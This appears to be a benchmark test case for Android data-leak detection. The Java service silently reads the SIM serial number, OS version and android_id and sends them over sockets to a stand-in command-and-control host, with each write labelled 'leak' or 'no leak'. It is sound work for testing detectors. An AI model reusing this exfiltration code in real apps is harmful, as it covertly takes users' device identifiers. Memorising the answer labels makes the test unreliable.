package trojans;

import android.app.IntentService;
import android.content.Intent;
import android.os.Build;
import android.provider.Settings;
import android.telephony.TelephonyManager;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;

/** Messages in a binary form of its own: tag, length, bytes. */
public class Frames extends IntentService {
    public Frames() {
        super("frames");
    }

    static final class Frame {
        private byte[] bytes = new byte[32];
        private int size;

        private void room(int more) {
            if (size + more > bytes.length) {
                byte[] larger = new byte[Math.max(bytes.length * 2, size + more)];
                System.arraycopy(bytes, 0, larger, 0, size);
                bytes = larger;
            }
        }

        void number(int value) {
            room(5);
            while ((value & ~0x7f) != 0) {
                bytes[size++] = (byte) (value & 0x7f | 0x80);
                value >>>= 7;
            }
            bytes[size++] = (byte) value;
        }

        Frame field(int tag, String text) {
            byte[] coded = text.getBytes(StandardCharsets.UTF_8);
            number(tag << 3 | 2);
            number(coded.length);
            room(coded.length);
            for (byte one : coded) {
                bytes[size++] = one;
            }
            return this;
        }

        byte[] done() {
            byte[] result = new byte[size];
            System.arraycopy(bytes, 0, result, 0, size);
            return result;
        }
    }

    protected void onHandleIntent(Intent intent) {
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        try (Socket line = new Socket("c2.example.invalid", 9001)) {
            OutputStream out = line.getOutputStream();
            Frame hello = new Frame().field(1, "hello").field(2, "3.1");
            out.write(hello.done()); // no leak
            Frame device = new Frame().field(1, phone.getSimSerialNumber()).field(2, Build.VERSION.RELEASE);
            byte[] coded = device.done();
            out.write(coded, 0, coded.length); // leak
            Frame bye = new Frame().field(1, "bye");
            out.write(bye.done()); // no leak
        } catch (IOException e) {
            stopSelf();
        }
        try {
            channel(Settings.Secure.getString(getContentResolver(), "android_id"));
        } catch (IOException e) {
            stopSelf();
        }
    }

    private void channel(String id) throws IOException {
        SocketChannel line = SocketChannel.open(new InetSocketAddress("c2.example.invalid", 9002));
        ByteBuffer start = ByteBuffer.allocate(8);
        start.putInt(7).putInt(id.length());
        start.flip();
        ByteBuffer rest = ByteBuffer.allocateDirect(256);
        rest.put((byte) 1).put(id.getBytes());
        rest.flip();
        line.write(rest); // leak
        ByteArrayOutputStream kept = new ByteArrayOutputStream();
        kept.write(id.getBytes());
        kept.reset();
        kept.write(1);
        line.write(ByteBuffer.wrap(kept.toByteArray())); // no leak
    }
}
